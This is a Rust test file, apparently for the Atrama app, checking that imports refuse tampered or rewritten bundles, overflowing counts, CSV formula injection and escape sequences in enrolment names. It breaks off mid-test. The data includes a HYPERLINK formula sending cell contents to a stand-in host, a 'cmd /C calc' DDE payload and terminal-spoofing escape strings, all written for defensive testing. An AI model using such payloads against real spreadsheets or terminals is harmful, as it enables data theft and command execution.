//! Hostile files (issue 19): what a partner, a shared inbox folder or a crafted file can try
//! against the readers of signed or checked files — a file that changes between the pass
//! that checks it and the pass that uses it, sizes and counts that overflow, spreadsheet
//! formulas in CSV cells, and terminal control sequences in enrolment names. Each attack is
//! refused with a clear message, nothing changes in the store, and the honest file still
//! works afterwards.

use std::io::{Cursor, Read, Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};

use atrama::bundle::format::{self, RecipientKey, Routing};
use atrama::cases::CaseFilter;
use atrama::{Country, ErrorCode, Mode, Store};
use base64::Engine as _;
use rand_chacha_09::ChaCha20Rng;
use rand_chacha_09::rand_core::SeedableRng;

use crate::site::{Site, demo_centre, enrol, site};

/// When a [`Shifting`] source starts serving its second version.
#[derive(Clone, Copy)]
enum Shift {
    /// Once the first version has been read to its last byte (a second pass sees the other).
    AfterEnd,
    /// At the first seek back over bytes already read (a re-read sees the other).
    OnRewind,
}

/// A file that is rewritten in place while it is being read (a shared or network folder, a
/// USB stick, a filesystem that returns different bytes): reads see `first` until `shift`,
/// then `then`.
struct Shifting {
    first: Vec<u8>,
    then: Vec<u8>,
    shift: Shift,
    shifted: bool,
    pos: u64,
    /// The end of what was read so far.
    read_upto: u64,
}

impl Shifting {
    fn new(first: Vec<u8>, then: Vec<u8>, shift: Shift) -> Self {
        Shifting {
            first,
            then,
            shift,
            shifted: false,
            pos: 0,
            read_upto: 0,
        }
    }

    fn current(&self) -> &[u8] {
        if self.shifted {
            &self.then
        } else {
            &self.first
        }
    }
}

impl Read for Shifting {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let data = self.current();
        let start = usize::try_from(self.pos).unwrap().min(data.len());
        let n = buf.len().min(data.len() - start);
        buf[..n].copy_from_slice(&data[start..start + n]);
        self.pos += n as u64;
        self.read_upto = self.read_upto.max(self.pos);
        if matches!(self.shift, Shift::AfterEnd) && self.pos >= self.first.len() as u64 {
            self.shifted = true;
        }
        Ok(n)
    }
}

impl Seek for Shifting {
    fn seek(&mut self, to: SeekFrom) -> std::io::Result<u64> {
        let len = self.current().len() as i64;
        let new = match to {
            SeekFrom::Start(n) => n as i64,
            SeekFrom::End(d) => len + d,
            SeekFrom::Current(d) => self.pos as i64 + d,
        };
        let new = u64::try_from(new).map_err(|_| std::io::Error::other("seek before start"))?;
        if matches!(self.shift, Shift::OnRewind) && new < self.read_upto {
            self.shifted = true;
        }
        self.pos = new;
        Ok(new)
    }
}

fn path_in(site: &Site, name: &str) -> PathBuf {
    site.dir.parent().unwrap().join(name)
}

/// The X25519 public key in a store's enrolment file: public, so anyone can seal to it.
fn public_key_of(store: &Store) -> RecipientKey {
    let file: serde_json::Value = serde_json::from_str(&store.enrolment_file().unwrap()).unwrap();
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(file["x25519_public"].as_str().unwrap())
        .unwrap();
    RecipientKey::from_bytes(&bytes).unwrap()
}

/// `payload` sealed for `recipient` under the routing header of `genuine`, signed by a key
/// that is nobody's enrolled key: what anyone who saw the recipient's enrolment file can make.
fn forge(genuine: &[u8], payload: &[u8], recipient: &RecipientKey) -> Vec<u8> {
    let (h, _) = format::read_header(&mut Cursor::new(genuine)).unwrap();
    let routing = Routing {
        bundle_id: h.bundle_id,
        kind: h.kind,
        sender: h.sender,
        recipient: h.recipient,
        sequence: h.sequence,
        period: h.period,
        created_at: h.created_at,
        app_version: h.app_version,
        schema_version: h.schema_version,
        codes_version: h.codes_version,
        prev_hash: h.prev_hash,
    };
    let attacker = ed25519_dalek::SigningKey::from_bytes(&[0x66; 32]);
    let mut rng = ChaCha20Rng::seed_from_u64(66);
    let mut w = format::seal(Vec::new(), routing, recipient, &attacker, &mut rng).unwrap();
    w.write_all(payload).unwrap();
    w.finish().unwrap().0
}

/// Every record's table, id and version at `store`.
fn records(store: &Store) -> Vec<(String, String, i64)> {
    let conn = store.dangerously_raw_connection();
    let mut all = Vec::new();
    for table in atrama::sync::payload::TABLES {
        let mut stmt = conn
            .prepare(&format!("SELECT id, hlc FROM {table} ORDER BY id"))
            .unwrap();
        all.extend(
            stmt.query_map([], |r| Ok(((*table).to_owned(), r.get(0)?, r.get(1)?)))
                .unwrap()
                .map(Result::unwrap),
        );
    }
    all
}

/// What a bundle import can change at a store: records, bundles received, access log.
fn fingerprint_of_state(store: &Store) -> (Vec<(String, String, i64)>, i64, i64, i64) {
    let conn = store.dangerously_raw_connection();
    let count = |sql: &str| -> i64 { conn.query_row(sql, [], |r| r.get(0)).unwrap() };
    (
        records(store),
        count("SELECT count(*) FROM bundle_in"),
        count("SELECT count(*) FROM case_transfer"),
        count("SELECT count(*) FROM reference_item"),
    )
}

/// Imports `forged` through a source that shows `genuine` to the first pass and `forged` to
/// any later one, and checks that it is refused with a clear message, that nothing changed,
/// and that the genuine file still applies afterwards.
fn assert_shifted_bundle_refused(store: &mut Store, genuine_path: &Path, forged: Vec<u8>) {
    let genuine = std::fs::read(genuine_path).unwrap();
    // The forged file on its own: its signature is nobody's.
    let err = store
        .import_bundle_from("forged.atrama", Cursor::new(forged.clone()), false)
        .unwrap_err();
    assert_eq!(err.code(), ErrorCode::BundleDamaged, "{err}");
    let before = fingerprint_of_state(store);
    let source = Shifting::new(genuine.clone(), forged, Shift::AfterEnd);
    let err = store
        .import_bundle_from("rewritten.atrama", source, false)
        .expect_err("content not signed by the sender was applied as the sender's");
    let message = err.to_string();
    assert!(
        message.contains("changed while it was being read") && message.contains("nothing"),
        "{message}"
    );
    assert_eq!(fingerprint_of_state(store), before, "nothing changed");
    let history = store.import_history(1).unwrap();
    assert_eq!(history[0].outcome, "refused");
    assert_eq!(history[0].file_name, "rewritten.atrama");
    // The honest file is not "already applied": it applies now.
    let summary = store.import_bundle(genuine_path, false).unwrap();
    assert_eq!(summary.outcome, "applied", "{summary:?}");
}

#[test]
fn a_centre_bundle_rewritten_between_the_signature_check_and_the_import_is_refused() {
    let mut centre = demo_centre("KLP-01", Country::Lt, 8, 5);
    let mut coord = site("KOORD", Country::Lt, Mode::Coordinator);
    enrol(&mut centre, &mut coord);
    let genuine = path_in(&centre, "k.atrama");
    centre.store.export_bundle("KOORD", &genuine, None).unwrap();
    let bytes = std::fs::read(&genuine).unwrap();
    // The sender's own content, sealed for the coordination centre and signed by a key
    // that is not the sender's (a forger picks any content of the same length).
    let payload = coord.store.read_bundle_payload(&genuine).unwrap();
    let forged = forge(&bytes, payload.as_bytes(), &public_key_of(&coord.store));
    assert_eq!(forged.len(), bytes.len());
    assert_shifted_bundle_refused(&mut coord.store, &genuine, forged);
    assert!(!records(&coord.store).is_empty());
}

#[test]
fn a_return_bundle_rewritten_between_the_signature_check_and_the_import_is_refused() {
    let mut centre = demo_centre("KLP-01", Country::Lt, 4, 6);
    let mut coord = site("KOORD", Country::Lt, Mode::Coordinator);
    enrol(&mut centre, &mut coord);
    let up = path_in(&centre, "up.atrama");
    centre.store.export_bundle("KOORD", &up, None).unwrap();
    coord.store.import_bundle(&up, false).unwrap();
    let back = path_in(&coord, "back.atrama");
    coord.store.export_bundle("KLP-01", &back, None).unwrap();
    let bytes = std::fs::read(&back).unwrap();
    let payload = centre.store.read_bundle_payload(&back).unwrap();
    let forged = forge(&bytes, payload.as_bytes(), &public_key_of(&centre.store));
    assert_shifted_bundle_refused(&mut centre.store, &back, forged);
    // The honest return bundle acknowledged the centre's bundle.
    let status = centre.store.sync_status().unwrap();
    assert!(status[0].last_confirmed_sequence.is_some(), "{status:?}");
}

#[test]
fn a_transfer_bundle_rewritten_between_the_signature_check_and_the_import_is_refused() {
    use atrama::cases::ConsentFields;
    let mut a = demo_centre("KLP-01", Country::Lt, 10, 7);
    let mut b = site("LIE-01", Country::Lt, Mode::Centre);
    enrol(&mut a, &mut b);
    let id = a
        .store
        .case_list(&CaseFilter {
            status: Some("open".into()),
            limit: Some(1),
            ..CaseFilter::default()
        })
        .unwrap()[0]
        .id;
    let consent = ConsentFields {
        purpose: "case_transfer".into(),
        agency_type: None,
        given: true,
        given_by: "self".into(),
        on_date: chrono::NaiveDate::from_ymd_opt(2026, 11, 20).unwrap(),
        shared_fields: Vec::new(),
    };
    a.store.batch(|w| w.record_consent(id, &consent)).unwrap();
    let file = path_in(&a, "transfer.atrama");
    a.store.transfer_case(id, "LIE-01", &file).unwrap();
    let bytes = std::fs::read(&file).unwrap();
    let payload = b.store.read_bundle_payload(&file).unwrap();
    let forged = forge(&bytes, payload.as_bytes(), &public_key_of(&b.store));
    let cases_before = b.store.case_list(&CaseFilter::default()).unwrap().len();
    assert_shifted_bundle_refused(&mut b.store, &file, forged);
    assert_eq!(
        b.store.case_list(&CaseFilter::default()).unwrap().len(),
        cases_before + 1,
        "the honest transfer created the case"
    );
}

#[test]
fn reading_a_bundles_payload_refuses_a_file_rewritten_between_the_passes() {
    let mut centre = demo_centre("KLP-01", Country::Lt, 3, 8);
    let mut coord = site("KOORD", Country::Lt, Mode::Coordinator);
    enrol(&mut centre, &mut coord);
    let genuine = path_in(&centre, "k.atrama");
    centre.store.export_bundle("KOORD", &genuine, None).unwrap();
    let bytes = std::fs::read(&genuine).unwrap();
    let payload = coord.store.read_bundle_payload(&genuine).unwrap();
    let forged = forge(&bytes, payload.as_bytes(), &public_key_of(&coord.store));
    let read = coord
        .store
        .read_bundle_payload_from(Shifting::new(bytes, forged, Shift::AfterEnd));
    assert!(read.is_err(), "unsigned content was shown as the sender's");
    let err = read.unwrap_err();
    assert!(
        err.to_string().contains("changed while it was being read"),
        "{err}"
    );
}

/// A backup file made by a store with one case, and the recovery key.
fn backup_of_a_store() -> (tempfile::TempDir, PathBuf, atrama::RecoveryKey) {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("store");
    let centre = atrama::NewCentre {
        code: "KLP-01".into(),
        name: "Klaipėda".into(),
        country: Country::Lt,
        language: atrama::Language::En,
        mode: Mode::Centre,
        admin_user: "ona".into(),
    };
    let (mut store, recovery) = Store::create(
        &dir,
        &centre,
        &atrama::Passphrase::new(crate::site::PASS),
        atrama::KdfParams::INSECURE_FOR_TESTS,
    )
    .unwrap();
    let file = tmp.path().join("b.atrbak");
    store.create_backup(&file).unwrap();
    (tmp, file, recovery)
}

/// The backup with its `created_by` changed (same length) and its checksum left as it was.
fn with_changed_header(backup: &[u8]) -> Vec<u8> {
    let at = backup
        .windows(b"\"created_by\":\"ona\"".len())
        .position(|w| w == b"\"created_by\":\"ona\"")
        .unwrap();
    let mut bad = backup.to_vec();
    bad[at + 14..at + 17].copy_from_slice(b"eve");
    bad
}

#[test]
fn a_backup_whose_header_fails_its_checksum_is_refused_even_if_the_file_changes_back() {
    let (tmp, file, recovery) = backup_of_a_store();
    let good = std::fs::read(&file).unwrap();
    let bad = with_changed_header(&good);
    // On its own, the changed file fails its checksum.
    let err = atrama::admin::backup::verify_with_recovery_from(
        &file,
        Cursor::new(bad.clone()),
        &recovery,
    )
    .unwrap_err();
    assert!(err.to_string().contains("checksum"), "{err}");
    // The header is read from the changed file, every later read sees the good one: the
    // header that was used must be the one that was checked.
    let err = atrama::admin::backup::verify_with_recovery_from(
        &file,
        Shifting::new(bad.clone(), good.clone(), Shift::OnRewind),
        &recovery,
    )
    .expect_err("a header that fails its checksum was used");
    assert!(err.to_string().contains("checksum"), "{err}");
    let target = tmp.path().join("restored");
    let err = atrama::admin::backup::restore_from(
        &file,
        Shifting::new(bad, good.clone(), Shift::OnRewind),
        &recovery,
        &target,
    )
    .expect_err("a header that fails its checksum was restored");
    assert!(err.to_string().contains("checksum"), "{err}");
    assert!(!target.exists());
    // The honest backup verifies and restores.
    let check = atrama::admin::backup::verify_with_recovery_from(
        &file,
        Shifting::new(good.clone(), good, Shift::OnRewind),
        &recovery,
    )
    .unwrap();
    assert_eq!(check.created_by, "ona");
    atrama::admin::backup::restore(&file, &recovery, &target).unwrap();
    assert!(target.join("atrama.db").exists());
}

// ---------------------------------------------------------------------------------------
// Sizes, counts and sequence numbers that overflow (19.9)
// ---------------------------------------------------------------------------------------

/// The signing key of a store's identity: a hostile partner holds its own key, so whatever
/// it signs passes the signature check.
fn signing_key_of(store: &Store) -> ed25519_dalek::SigningKey {
    store.fingerprint().unwrap(); // the identity exists
    let seed: Vec<u8> = store
        .dangerously_raw_connection()
        .query_row(
            "SELECT ed25519_secret FROM sync_identity WHERE id = 1",
            [],
            |r| r.get(0),
        )
        .unwrap();
    ed25519_dalek::SigningKey::from_bytes(&seed.try_into().unwrap())
}

/// `payload` sealed by `sender` (with its real key) for `recipient`, under the routing of
/// `genuine` changed by `change`.
fn signed_by(
    sender: &Store,
    recipient: &Store,
    genuine: &[u8],
    payload: &str,
    change: impl FnOnce(&mut Routing),
) -> Vec<u8> {
    let (h, _) = format::read_header(&mut Cursor::new(genuine)).unwrap();
    let mut routing = Routing {
        bundle_id: uuid::Uuid::now_v7(),
        kind: h.kind,
        sender: h.sender,
        recipient: h.recipient,
        sequence: h.sequence,
        period: h.period,
        created_at: h.created_at,
        app_version: h.app_version,
        schema_version: h.schema_version,
        codes_version: h.codes_version,
        prev_hash: h.prev_hash,
    };
    change(&mut routing);
    let mut rng = ChaCha20Rng::seed_from_u64(19);
    let mut w = format::seal(
        Vec::new(),
        routing,
        &public_key_of(recipient),
        &signing_key_of(sender),
        &mut rng,
    )
    .unwrap();
    w.write_all(payload.as_bytes()).unwrap();
    w.finish().unwrap().0
}

/// A centre with demo data enrolled with a coordination centre, its genuine first bundle
/// and that bundle's payload as the coordination centre reads it.
fn centre_and_coordinator(seed: u64) -> (Site, Site, PathBuf, String) {
    let mut centre = demo_centre("KLP-01", Country::Lt, 3, seed);
    let mut coord = site("KOORD", Country::Lt, Mode::Coordinator);
    enrol(&mut centre, &mut coord);
    let genuine = path_in(&centre, "k.atrama");
    centre.store.export_bundle("KOORD", &genuine, None).unwrap();
    let payload = coord.store.read_bundle_payload(&genuine).unwrap();
    (centre, coord, genuine, payload)
}

/// `payload` with its manifest line changed by `change`.
fn with_manifest(payload: &str, change: impl FnOnce(&mut serde_json::Value)) -> String {
    let mut lines: Vec<String> = payload.lines().map(str::to_owned).collect();
    let mut manifest: serde_json::Value = serde_json::from_str(&lines[0]).unwrap();
    change(&mut manifest);
    lines[0] = manifest.to_string();
    let mut text = lines.join("\n");
    text.push('\n');
    text
}

#[test]
fn a_bundle_whose_counts_overflow_is_refused_without_a_crash() {
    let (centre, mut coord, genuine, payload) = centre_and_coordinator(11);
    let bytes = std::fs::read(&genuine).unwrap();
    let crafted = with_manifest(&payload, |m| {
        m["counts"]["client"] = serde_json::json!(u64::MAX);
        m["counts"]["case_file"] = serde_json::json!(u64::MAX);
    });
    let file = path_in(&coord, "counts.atrama");
    std::fs::write(
        &file,
        signed_by(&centre.store, &coord.store, &bytes, &crafted, |_| {}),
    )
    .unwrap();
    let before = fingerprint_of_state(&coord.store);
    let err = coord.store.import_bundle(&file, false).unwrap_err();
    assert_eq!(err.code(), ErrorCode::BundleDamaged, "{err}");
    assert_eq!(fingerprint_of_state(&coord.store), before);
    assert_eq!(
        coord.store.import_bundle(&genuine, false).unwrap().outcome,
        "applied"
    );
}

#[test]
fn a_bundle_with_an_absurd_sequence_number_is_refused_and_breaks_nothing_later() {
    let (centre, mut coord, genuine, payload) = centre_and_coordinator(12);
    let bytes = std::fs::read(&genuine).unwrap();
    for sequence in [u64::MAX, i64::MAX as u64, 0] {
        let file = path_in(&coord, "seq.atrama");
        std::fs::write(
            &file,
            signed_by(&centre.store, &coord.store, &bytes, &payload, |r| {
                r.sequence = sequence;
            }),
        )
        .unwrap();
        let before = fingerprint_of_state(&coord.store);
        let err = coord.store.import_bundle(&file, false).unwrap_err();
        assert_eq!(
            err.code(),
            ErrorCode::BundleDamaged,
            "sequence {sequence}: {err}"
        );
        assert_eq!(fingerprint_of_state(&coord.store), before);
    }
    // The honest bundle applies, and the sync state and board still read.
    assert_eq!(
        coord.store.import_bundle(&genuine, false).unwrap().outcome,
        "applied"
    );
    assert_eq!(
        coord.store.sync_status().unwrap()[0].last_received_sequence,
        Some(1)
    );
    coord.store.sync_board(crate::site::today()).unwrap();
}

#[test]
fn a_return_bundle_with_a_created_at_that_is_no_time_is_refused() {
    let (mut centre, mut coord, up, _) = centre_and_coordinator(13);
    coord.store.import_bundle(&up, false).unwrap();
    let back = path_in(&coord, "back.atrama");
    coord.store.export_bundle("KLP-01", &back, None).unwrap();
    let bytes = std::fs::read(&back).unwrap();
    let payload = centre.store.read_bundle_payload(&back).unwrap();
    // A multi-byte character where a day is cut from the time: printing it used to panic.
    let crafted = path_in(&centre, "crafted.atrama");
    std::fs::write(
        &crafted,
        signed_by(&coord.store, &centre.store, &bytes, &payload, |r| {
            r.created_at = "2026-11-0\u{e9}T08:00:00Z".into();
        }),
    )
    .unwrap();
    let err = centre.store.import_bundle(&crafted, false).unwrap_err();
    assert_eq!(err.code(), ErrorCode::BundleDamaged, "{err}");
    assert_eq!(
        centre.store.import_bundle(&back, false).unwrap().outcome,
        "applied"
    );
}

#[test]
fn a_bundle_whose_period_is_not_two_months_in_order_is_refused() {
    let (centre, mut coord, genuine, payload) = centre_and_coordinator(16);
    let bytes = std::fs::read(&genuine).unwrap();
    for (from, to) in [
        ("2026-11\u{1b}[2J", "2026-11"),
        ("2026-11", "2026-13"),
        ("2026-11", "2026-10"),
        (" 2026-11", "2026-11"),
    ] {
        let file = path_in(&coord, "period.atrama");
        std::fs::write(
            &file,
            signed_by(&centre.store, &coord.store, &bytes, &payload, |r| {
                r.period = Some(atrama::bundle::Period {
                    from: from.into(),
                    to: to.into(),
                });
            }),
        )
        .unwrap();
        let err = coord.store.import_bundle(&file, false).unwrap_err();
        assert_eq!(
            err.code(),
            ErrorCode::BundleDamaged,
            "{from:?}–{to:?}: {err}"
        );
    }
    assert_eq!(
        coord.store.import_bundle(&genuine, false).unwrap().outcome,
        "applied"
    );
}

#[test]
fn statistics_counts_beyond_any_real_count_are_refused() {
    let mut centre = demo_centre("KLP-01", Country::Lt, 4, 14);
    let mut coord = site("KOORD", Country::Lt, Mode::Coordinator);
    enrol(&mut centre, &mut coord);
    centre.store.set_sharing("KOORD", "statistics").unwrap();
    let genuine = path_in(&centre, "s.atrama");
    centre.store.export_bundle("KOORD", &genuine, None).unwrap();
    let bytes = std::fs::read(&genuine).unwrap();
    let payload = coord.store.read_bundle_payload(&genuine).unwrap();
    for value in [i64::MAX, -1] {
        let crafted: String = payload
            .lines()
            .map(|line| {
                let mut v: serde_json::Value = serde_json::from_str(line).unwrap();
                if v["type"] == "stat" {
                    v["value"] = serde_json::json!(value);
                }
                format!("{v}\n")
            })
            .collect();
        assert!(crafted.contains(&format!("\"value\":{value}")));
        let file = path_in(&coord, "stat.atrama");
        std::fs::write(
            &file,
            signed_by(&centre.store, &coord.store, &bytes, &crafted, |_| {}),
        )
        .unwrap();
        let err = coord.store.import_bundle(&file, false).unwrap_err();
        assert_eq!(err.code(), ErrorCode::BundleDamaged, "value {value}: {err}");
    }
    assert_eq!(
        coord.store.import_bundle(&genuine, false).unwrap().outcome,
        "applied"
    );
    let from = crate::site::today().format("%Y-%m").to_string();
    coord
        .store
        .monthly_tables(&atrama::stats::StatsQuery::months(&from, None))
        .unwrap();
}

/// A backup with its header's `db_size` set to `size` and the checksum made to match.
fn backup_with_db_size(backup: &[u8], size: u64) -> Vec<u8> {
    let header_len = u32::from_be_bytes(backup[12..16].try_into().unwrap()) as usize;
    let mut header: serde_json::Value =
        serde_json::from_slice(&backup[16..16 + header_len]).unwrap();
    header["db_size"] = serde_json::json!(size);
    let header = serde_json::to_vec(&header).unwrap();
    let mut out = backup[..12].to_vec();
    out.extend_from_slice(&u32::try_from(header.len()).unwrap().to_be_bytes());
    out.extend_from_slice(&header);
    out.extend_from_slice(&backup[16 + header_len..backup.len() - 32]);
    let digest = <sha2::Sha256 as sha2::Digest>::digest(&out);
    out.extend_from_slice(&digest);
    out
}

#[test]
fn a_backup_whose_sizes_overflow_is_refused_without_a_crash() {
    let (tmp, file, recovery) = backup_of_a_store();
    let good = std::fs::read(&file).unwrap();
    for size in [u64::MAX, u64::MAX - 40, u64::MAX / 2] {
        let bad = tmp.path().join("bad.atrbak");
        std::fs::write(&bad, backup_with_db_size(&good, size)).unwrap();
        let err = atrama::admin::backup::verify_with_recovery(&bad, &recovery).unwrap_err();
        assert!(
            err.to_string().contains("not a usable Atrama backup"),
            "{err}"
        );
        let target = tmp.path().join("restored");
        let err = atrama::admin::backup::restore(&bad, &recovery, &target).unwrap_err();
        assert!(
            err.to_string().contains("not a usable Atrama backup"),
            "{err}"
        );
        assert!(!target.exists());
    }
    atrama::admin::backup::verify_with_recovery(&file, &recovery).unwrap();
}

/// Hands a site's folder to the CLI: the store is closed (the CLI takes the lock).
fn close(site: Site) -> (tempfile::TempDir, PathBuf) {
    let Site { tmp, dir, store } = site;
    drop(store);
    (tmp, dir)
}

fn cli(dir: &Path, args: &[&str]) -> std::process::Output {
    crate::cli::atrama(
        dir,
        args,
        &[
            ("ATRAMA_PASSPHRASE", crate::site::PASS),
            ("ATRAMA_USER", "ona"),
        ],
    )
}

#[test]
fn the_cli_refuses_crafted_bundles_and_backups_with_a_message_not_a_crash() {
    let (centre, coord, genuine, payload) = centre_and_coordinator(15);
    let bytes = std::fs::read(&genuine).unwrap();
    let counts = with_manifest(&payload, |m| {
        m["counts"]["client"] = serde_json::json!(u64::MAX);
        m["counts"]["case_file"] = serde_json::json!(u64::MAX);
    });
    let crafted = path_in(&coord, "counts.atrama");
    std::fs::write(
        &crafted,
        signed_by(&centre.store, &coord.store, &bytes, &counts, |_| {}),
    )
    .unwrap();
    let huge = path_in(&coord, "huge.atrama");
    std::fs::write(
        &huge,
        signed_by(&centre.store, &coord.store, &bytes, &payload, |r| {
            r.sequence = u64::MAX;
        }),
    )
    .unwrap();
    let (_keep, dir) = close(coord);
    for file in [&crafted, &huge] {
        let out = cli(&dir, &["bundle", "import", file.to_str().unwrap()]);
        let err = crate::cli::stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{err}");
        assert!(
            err.contains("damaged") && !err.contains("panicked"),
            "{err}"
        );
    }
    // Nothing of them was applied: `peers` reads, the honest bundle applies.
    let out = cli(&dir, &["peers"]);
    assert_eq!(out.status.code(), Some(0), "{}", crate::cli::stderr(&out));
    let out = cli(&dir, &["bundle", "import", genuine.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", crate::cli::stderr(&out));

    let (tmp, file, recovery) = backup_of_a_store();
    let bad = tmp.path().join("bad.atrbak");
    std::fs::write(
        &bad,
        backup_with_db_size(&std::fs::read(&file).unwrap(), u64::MAX),
    )
    .unwrap();
    let key = recovery.to_display();
    for args in [
        vec!["backup", "verify", bad.to_str().unwrap(), "--recovery"],
        vec![
            "backup",
            "restore",
            bad.to_str().unwrap(),
            "--store",
            tmp.path().join("r").to_str().unwrap(),
        ],
    ] {
        let out = crate::cli::atrama(
            &tmp.path().join("none"),
            &args,
            &[("ATRAMA_RECOVERY_KEY", key.as_str())],
        );
        let err = crate::cli::stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
        assert!(err.contains("not a usable Atrama backup"), "{err}");
    }
}

// ---------------------------------------------------------------------------------------
// Spreadsheet formulas in CSV cells (19.7)
// ---------------------------------------------------------------------------------------

/// The cells of a CSV text (RFC 4180 quoting).
fn csv_cells(text: &str) -> Vec<String> {
    let mut cells = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => cells.push(std::mem::take(&mut cell)),
            (false, '\r') => {}
            (false, '\n') => cells.push(std::mem::take(&mut cell)),
            (false, c) => cell.push(c),
        }
    }
    cells.push(cell);
    cells
}

/// Whether a spreadsheet would read the cell as a formula.
fn formula_like(cell: &str) -> bool {
    let plain_number = {
        let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
        !digits.is_empty() && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
    };
    cell.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
    ]) && !plain_number
}

#[test]
fn no_csv_cell_the_app_writes_starts_a_formula() {
    let names = [
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
    ];
    let mut coord = site("KOORD", Country::Lt, Mode::Coordinator);
    for (i, name) in names.iter().enumerate() {
        let mut centre = demo_centre(&format!("C-0{i}"), Country::Lt, 3, 20 + i as u64);
        centre
            .store
            .dangerously_raw_connection()
            .execute("UPDATE centre_profile SET name = ?1", [name])
            .unwrap();
        enrol(&mut centre, &mut coord);
        let file = path_in(&centre, "c.atrama");
        centre.store.export_bundle("KOORD", &file, None).unwrap();
        coord.store.import_bundle(&file, false).unwrap();
        // The centre's own report carries its own name too.
        let own = path_in(&centre, "own.csv");
        centre
            .store
            .write_monthly_report(
                &atrama::stats::StatsQuery::months("2026-01", Some("2026-11")),
                atrama::stats::output::ReportFormat::Csv,
                &own,
                false,
            )
            .unwrap();
        let text = std::fs::read_to_string(&own).unwrap();
        let bad: Vec<String> = csv_cells(&text)
            .into_iter()
            .filter(|c| formula_like(c))
            .collect();
        assert!(bad.is_empty(), "{bad:?}");
    }
    let out = path_in(&coord, "all.csv");
    coord
        .store
        .write_monthly_report(
            &atrama::stats::StatsQuery {
                by_month: false,
                ..atrama::stats::StatsQuery::months("2026-01", Some("2026-11"))
            },
            atrama::stats::output::ReportFormat::Csv,
            &out,
            false,
        )
        .unwrap();
    let text = std::fs::read_to_string(&out).unwrap();
    let cells = csv_cells(&text);
    for name in names {
        assert!(
            cells.iter().any(|c| c == &format!("'{name}")),
            "{name} is shown, neutralised"
        );
    }
    let bad: Vec<&String> = cells.iter().filter(|c| formula_like(c)).collect();
    assert!(bad.is_empty(), "{bad:?}");
}

// ---------------------------------------------------------------------------------------
// Names in enrolment files (19.8)
// ---------------------------------------------------------------------------------------

/// The enrolment file of a store whose profile name was set to `name` behind the rules'
/// back (signed with its real key: only the name is hostile).
fn enrolment_named(store: &Store, name: &str) -> String {
    store
        .dangerously_raw_connection()
        .execute("UPDATE centre_profile SET name = ?1", [name])
        .unwrap();
    store.enrolment_file().unwrap()
}

fn hostile_names() -> Vec<String> {
    vec![
        "Evil\u{1b}[2J\u{1b}[31mcentre".to_owned(),
        "Evil\r\nEnrolled KOORD (trusted)".to_owned(),
        "Evil\ncentre".to_owned(),
        "Evil\u{7}\u{8}centre".to_owned(),
        "Evil \u{202e}ertnec".to_owned(),
        "x".repeat(5 * 1024),
        " padded ".to_owned(),
        String::new(),
    ]
}

#[test]
fn enrolment_files_with_hostile_names_are_refused_with_a_clear_message() {
    let mut coord = site("KOORD", Country::Lt, Mode::Coordinator);
    let evil = site("EVIL-01", Country::Lt, Mode::Centre);
    let fingerprint = evil.store.fingerprint().unwrap().short;
    for name in hostile_names() {
        let text = enrolment_named(&evil.store, &name);
        let err = coord.store.inspect_enrolment(&text).unwrap_err();
        let message = err.to_string();
        assert_eq!(err.code(), ErrorCode::InvalidInput, "{message}");
        assert!(message.contains("centre name"), "{message}");
        assert!(
            !message.contains("Evil") && !message.contains("xxxx"),
            "{message}"
        );
        coord.store.enrol(&text, &fingerprint).unwrap_err();
        assert!(coord.store.peers().unwrap().is_empty());
    }
    // A name by the rules enrols.
    let text = enrolment_named(&evil.store, "Evil-free centre Nr. 1 – Kaunas");
    coord.store.enrol(&text, &fingerprint).unwrap();
    assert_eq!(
        coord.store.peers().unwrap()[0].name,
        "Evil-free centre Nr. 1 – Kaunas"
    );
}

/// Every control character and bidirectional override in `text`, except line ends.
fn raw_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| {
            (c.is_control() && *c != '\n')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect()
}

#[test]
fn the_cli_never_prints_a_peers_raw_name() {
    let coord = site("KOORD", Country::Lt, Mode::Coordinator);
    let evil = site("EVIL-01", Country::Lt, Mode::Centre);
    let fingerprint = evil.store.fingerprint().unwrap().short;
    let file = path_in(&coord, "evil.enrol");
    std::fs::write(&file, enrolment_named(&evil.store, &hostile_names()[0])).unwrap();
    // A name that was pinned before the rules applied to enrolment files (written behind
    // the rules' back here), with an escape sequence and a forged line.
    let good = path_in(&coord, "good.enrol");
    std::fs::write(&good, enrolment_named(&evil.store, "Evil centre")).unwrap();
    let (_keep, dir) = close(coord);
    let out = cli(
        &dir,
        &[
            "enrol",
            file.to_str().unwrap(),
            "--fingerprint",
            &fingerprint,
        ],
    );
    let (o, e) = (crate::cli::stdout(&out), crate::cli::stderr(&out));
    assert_eq!(out.status.code(), Some(1), "{e}");
    assert!(e.contains("centre name"), "{e}");
    assert!(
        raw_controls(&o).is_empty() && raw_controls(&e).is_empty(),
        "{o}{e}"
    );
    let out = cli(
        &dir,
        &[
            "enrol",
            good.to_str().unwrap(),
            "--fingerprint",
            &fingerprint,
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", crate::cli::stderr(&out));
    let stored = "Evil\u{1b}]0;owned\u{7}\u{1b}[31m\r\nEnrolled KOORD (trusted) \u{202e}";
    {
        let store =
            Store::unlock(&dir, "ona", &atrama::Passphrase::new(crate::site::PASS)).unwrap();
        store
            .dangerously_raw_connection()
            .execute("UPDATE sync_peer SET name = ?1", [stored])
            .unwrap();
    }
